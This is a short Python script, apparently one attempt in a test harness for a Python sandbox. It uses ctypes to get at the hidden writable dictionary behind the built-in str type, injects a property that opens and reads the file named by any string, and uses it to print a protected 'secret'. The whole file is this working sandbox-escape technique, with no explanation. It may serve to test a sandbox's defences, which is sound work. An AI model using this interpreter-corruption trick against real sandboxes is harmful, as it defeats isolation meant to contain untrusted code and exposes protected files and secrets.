import ctypes

from arms import P, attempt


@attempt
def deed():
    class Proxy(ctypes.Structure):
        _fields_ = [("head", ctypes.c_ssize_t * 2), ("inner", ctypes.py_object)]

    inner = Proxy.from_address(id(str.__dict__)).inner
    inner["granted"] = property(lambda self: open(self).read())
    print(P["secret"].granted)
